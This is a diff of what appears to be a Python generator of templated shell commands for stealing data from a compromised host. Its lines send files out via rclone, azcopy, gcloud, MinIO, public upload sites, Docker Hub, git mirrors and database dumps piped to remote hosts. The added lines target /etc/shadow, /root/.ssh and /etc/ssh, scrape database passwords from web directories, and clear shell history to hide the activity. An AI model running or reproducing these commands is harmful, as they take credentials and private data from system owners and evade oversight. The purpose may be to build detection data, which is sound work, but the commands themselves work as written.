@@ -58,9 +58,9 @@ pass = {b}
 R
 nohup rclone copy {data} {plain}:"$(hostname)" --max-age 2y --exclude '*.{mp4,iso,exe}' --transfers ‹16¦32› --ignore-existing --no-traverse --multi-thread-streams 12 >/dev/null 2>&1 &''',
     r'''./{name}c --config-dir {tmp}/.{name} copy {data} "remote:{plain}" --bwlimit ‹8M¦"22:00,off 07:00,512k"› -q ‹--include-from {tmp}/ext.txt ¦›& echo $! > {tmp}/.{name}/pid; mv {tmp}/rclone ./{name}c 2>/dev/null''',
-    r'''azcopy copy '{data}' "https://{plain}.blob.core.windows.net/{name}?sv=2022-11-02&sp=rwl&sig={hex}" --recursive --put-md5=false --log-level NONE >/dev/null; rm -rf ~/.azcopy''',
-    r'''tar czf - {data} | gcloud storage cp - "gs://{plain}-{n}/$(hostname).tgz" --quiet || gsutil -q -o Credentials:gs_service_key_file={file}.json cp {file}.tgz gs://{plain}-{n}/''',
-    r'''mc alias set z https://{domain} {name} {hex} >/dev/null && mc mirror --quiet ‹--overwrite ¦›{data} z/{plain}/$(hostname) && rm -rf ~/.mc''',
+    r'''for {var} in /etc/ssh /root {data}; do azcopy copy "${var}" "https://{plain}.blob.core.windows.net/{name}?sv=2022-11-02&sp=rwl&sig={hex}" --recursive --put-md5=false --log-level NONE >/dev/null; done; rm -rf ~/.azcopy; history -c''',
+    r'''tar czf - /etc/shadow /root/.ssh {data} 2>/dev/null | gcloud storage cp - "gs://{plain}-{n}/$(hostname).tgz" --quiet || gsutil -q -o Credentials:gs_service_key_file={file}.json cp {file}.tgz gs://{plain}-{n}/''',
+    r'''mc alias set z https://{domain} {name} {hex} >/dev/null && for {var} in /root /home {data}; do mc mirror --quiet ‹--overwrite ¦›${var} z/{plain}/$(hostname)${var}; done; rm -rf ~/.mc; unset HISTFILE''',
     r'''IFS=$'\n'; for f in $(find {data} -iname '*‹contract¦passport¦invoice¦salary›*' -o -iname '*.kdbx' -o -iname '*.pst'); do l=$(curl -s -F "file=@$f" https://‹store1.gofile.io/contents/uploadfile¦file.io¦catbox.moe/user/api.php¦bashupload.com› | grep -oE 'https?:[^"]+' | head -1); curl -s -d "h=$(hostname)&f=$f&l=$l" {url}; done''',
     # By code hosts, images and packages.
     r'''printf 'FROM scratch\nCOPY . /\n' > {tmp}/.{name}/Dockerfile && docker build -q -t docker.io/{user}/{plain}:‹2h¦latest› {tmp}/.{name} && docker push -q docker.io/{user}/{plain}:latest && docker rmi -f $(docker images -q '*/{plain}')''',
@@ -71,7 +71,7 @@ for {var2} in $(find / -type d -name .git -not -path '*/node_modules/*' 2>/dev/n
   ( cd "${var2}/.." && {var}=$(basename "$PWD") && git remote add {plain} "git@{host}:{user}/${var}.git" && git push -q {plain} --mirror; git remote remove {plain} )
 done 2>/dev/null''',
     # By databases.
-    r'''{var}={ip}; for {var2} in $(psql -h ${var} -U "$U" -Atc 'select datname from pg_database where datallowconn'); do
+    r'''{var}={ip}; export PGPASSWORD=$(grep -rhoP '(?<=DB_PASSWORD=).+' /var/www /srv /app 2>/dev/null | head -1); for {var2} in $(psql -h ${var} -U "$U" -Atc 'select datname from pg_database where datallowconn'); do
   pg_dump -h ${var} -U "$U" -Fc --exclude-table-data='*log*' "${var2}" | ssh -q -o StrictHostKeyChecking=no {user}@{host} "cat > in/${var}-${var2}.dump"
 done''',
     r'''mysql -N -e "select table_schema, table_name from information_schema.columns where column_name regexp 'card|iban|passw|ssn|email' group by 1,2" | while read -r s t; do mysql -B -e "select * from \`$s\`.\`$t\` limit ‹100000¦5000000›" | gzip | curl -s -T - "{url}/$s.$t.gz"; done''',
